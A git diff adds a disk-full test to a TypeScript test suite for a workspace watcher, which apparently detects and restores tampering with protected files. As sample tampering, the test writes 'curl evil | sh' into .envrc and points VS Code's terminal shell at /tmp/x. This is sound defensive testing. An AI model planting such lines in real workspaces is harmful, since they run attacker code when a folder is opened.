@@ -1,6 +1,6 @@
 // WorkspaceWatch on real trees (no container): a "run" is simulated by changing the tree
 // between start() and finish(). Violations must be found, put back exactly, and reported.
-import { execFileSync } from "node:child_process";
+import { execFileSync, spawnSync } from "node:child_process";
 import crypto from "node:crypto";
 import fs from "node:fs";
 import path from "node:path";
@@ -928,5 +928,46 @@ describe("gitChecksFailed: git checks that threw judged nothing", () => {
     ]);
     // An existing pack git only freshened is history the run never wrote: it stays.
     expect(result.steps).toEqual([{ action: "remove", path: "a/.git/objects/pack/p.pack", objectStore: true }]);
+  });
+});
+
+describe("WorkspaceWatch: a workspace the run filled to the last byte (review, session 32)", () => {
+  /** Every name below `dir`, recursively (relative). */
+  const names = (dir: string): string[] =>
+    (fs.readdirSync(dir, { recursive: true }) as string[]).map((n) => n.toString()).sort();
+
+  it("still puts protected files back (the run's entry goes first to free its room), and leaves no scratch file of the host's", async () => {
+    expect(process.geteuid?.(), "mount needs root (the unit tests run as root here and on CI)").toBe(0);
+    const mountPoint = tree();
+    expect(spawnSync("mount", ["-t", "tmpfs", "-o", "size=4m", "tmpfs", mountPoint]).status).toBe(0);
+    try {
+      const ws = path.join(mountPoint, "ws");
+      fs.mkdirSync(path.join(ws, ".vscode"), { recursive: true });
+      fs.writeFileSync(path.join(ws, ".envrc"), "export A=1\n");
+      fs.writeFileSync(path.join(ws, ".vscode/settings.json"), '{ "editor.tabSize": 2 }\n');
+      const w = await watch(ws);
+      // The run: hostile content at protected paths, then a plain file that takes every byte left.
+      fs.writeFileSync(path.join(ws, ".envrc"), "curl evil | sh\n");
+      fs.writeFileSync(path.join(ws, ".vscode/settings.json"), `{ "terminal.integrated.shell.linux": "/tmp/x" }\n`);
+      const fill = fs.openSync(path.join(ws, "fill.bin"), "w");
+      try {
+        for (;;) fs.writeSync(fill, Buffer.alloc(64 * 1024));
+      } catch (error) {
+        expect((error as NodeJS.ErrnoException).code).toBe("ENOSPC");
+      } finally {
+        fs.closeSync(fill);
+      }
+      const report = await w.finish();
+      expect(report.violations.map((v) => `${v.change} ${v.path}`).sort()).toEqual([
+        "modified .envrc",
+        "modified .vscode/settings.json",
+      ]);
+      expect(fs.readFileSync(path.join(ws, ".envrc"), "utf8")).toBe("export A=1\n");
+      expect(fs.readFileSync(path.join(ws, ".vscode/settings.json"), "utf8")).toBe('{ "editor.tabSize": 2 }\n');
+      expect(report.restore).toMatchObject({ clean: true, notRestored: [] });
+      expect(names(ws)).toEqual([".envrc", ".vscode", ".vscode/settings.json", "fill.bin"]);
+    } finally {
+      spawnSync("umount", [mountPoint]);
+    }
   });
 });
